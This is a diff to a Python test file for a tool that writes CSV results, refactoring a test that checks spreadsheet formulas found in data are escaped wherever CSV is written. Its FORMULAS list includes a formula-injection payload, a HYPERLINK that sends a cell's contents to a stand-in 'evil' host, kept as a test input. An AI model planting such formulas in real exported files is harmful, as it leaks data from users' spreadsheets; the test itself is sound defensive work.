@@ -16,8 +16,9 @@ from typer.testing import CliRunner
 
 from adyton.certify.csv_text import csv_text
 from adyton.transports.cli.app import app
-from browsing import Browsing
-from served import QUICK, served
+from support.servers import QUICK, served
+from support.web import Browsing
+from support.worlds import study_text
 
 FORMULAS = (
     '=HYPERLINK("http://evil/?"&A1,"click")',
@@ -32,23 +33,7 @@ FORMULAS = (
 HARMLESS = ("-1", "+2.50", "north", "a=b", "it's", "'quoted'", "")
 EXECUTED = re.compile(r"[=+\-@\t\r\n＝＋－＠]")
 ESCAPED = re.compile(r"'+[=+\-@\t\r\n＝＋－＠]")
-STUDY = """
-[table]
-name = "people"
-source = "people.parquet"
-rows = {rows}
-[privacy]
-unit = "row"
-adjacency = "replace-one"
-epsilon = 10
-delta = 1e-6
-discovery_delta = 1e-7
-[columns.employer]
-kind = "text"
-[columns.sign]
-kind = "category"
-values = ["=1+1", "-"]
-"""
+COLUMNS = {"employer": {"kind": "text"}, "sign": {"kind": "category", "values": ["=1+1", "-"]}}
 ASKED = 'SELECT employer, COUNT(*) AS "=n" FROM people GROUP BY employer'
 
 
@@ -57,7 +42,8 @@ def study(tmp_path: Path) -> Path:
     employers = [one for one in FORMULAS for _ in range(300)]
     pd.DataFrame({"employer": employers, "sign": "=1+1"}).to_parquet(tmp_path / "people.parquet")
     file = tmp_path / "people.toml"
-    file.write_text(STUDY.format(rows=len(employers)), encoding="utf-8")
+    text = study_text(COLUMNS, rows=len(employers), epsilon=10, delta="1e-6", discovery_delta=1e-7)
+    file.write_text(text, encoding="utf-8")
     return file
 
 
@@ -75,7 +61,7 @@ def check(text: str) -> None:
     assert {row[0] for row in rows} == set(FORMULAS)
 
 
-def test_no_formula_that_is_found_as_a_group_is_executed_wherever_csv_is_written(study: Path) -> None:
+def test_no_formula_found_as_a_group_is_executed_wherever_csv_is_written(study: Path) -> None:
     """The command line, HTTP and a page.  Mutant: texts are written as they are."""
     printed = CliRunner().invoke(app, ["ask", str(study), ASKED, "--epsilon", "1", "--csv"])
     check(printed.stdout)
